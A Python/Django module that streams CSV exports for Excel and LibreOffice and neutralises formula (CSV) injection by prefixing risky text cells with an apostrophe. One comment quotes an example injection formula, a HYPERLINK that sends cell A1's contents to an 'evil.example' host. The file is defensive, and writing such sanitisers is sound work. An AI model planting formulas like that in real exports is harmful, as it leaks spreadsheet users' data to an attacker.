"""CSV for spreadsheets: UTF-8 with a BOM (so Excel reads £ and accents), and no cell that
Excel or LibreOffice would run as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import date
from decimal import Decimal

from django.db.models import TextField
from django.db.models.functions import Cast

# OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
# turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def spreadsheet_cell(value) -> object:
    """Numbers stay numbers; text that could start a formula gets a leading apostrophe.

    Called for every cell of a long export, so the common types are matched by ``type``
    first (a year's export at ten years of data has 60,000 cells of each)."""
    kind = type(value)
    if kind is str:
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    if kind is Decimal or kind is int or kind is date:
        return value  # the csv module writes str(value): a date's str is its isoformat
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def as_text(field: str) -> Cast:
    """A date or amount column as PostgreSQL writes it (2026-04-01, 12.50), for a long
    export: read as text, it needs no date or Decimal made and written back per cell.
    Only for columns that cannot start a formula (dates, amounts never below zero)."""
    return Cast(field, output_field=TextField())


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterable[str]:
    """The lines of a CSV file, for a StreamingHttpResponse: header first, with the BOM."""
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow([spreadsheet_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([spreadsheet_cell(cell) for cell in row])


# Cells the csv module writes as they should read, with nothing to make safe: checked by
# exact type, once per cell of a long export.
_WRITTEN_AS_THEY_ARE = frozenset({Decimal, int, date, type(None)})


def csv_blocks(
    header: list[str], rows: Iterable[Iterable], rows_per_block: int = 1000
) -> Iterator[str]:
    """``csv_lines`` in blocks of rows, for a long StreamingHttpResponse: a chunk per row
    costs the server more than the row itself (a year's export at ten years of data:
    60,000 writes to the socket), while a block keeps memory as flat as a row."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    cell, as_they_are, formula = spreadsheet_cell, _WRITTEN_AS_THEY_ARE, FORMULA_STARTS
    buffer.write(BOM)
    writer.writerow([cell(value) for value in header])
    block: list[list] = []
    for row in rows:
        # spreadsheet_cell's rule, with its commonest cases written out: a call per cell
        # was a third of the export's time.
        block.append(
            [
                ("'" + value if value.startswith(formula) else value)
                if type(value) is str
                else (value if type(value) in as_they_are else cell(value))
                for value in row
            ]
        )
        if len(block) == rows_per_block:
            writer.writerows(block)
            block.clear()
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    writer.writerows(block)
    yield buffer.getvalue()
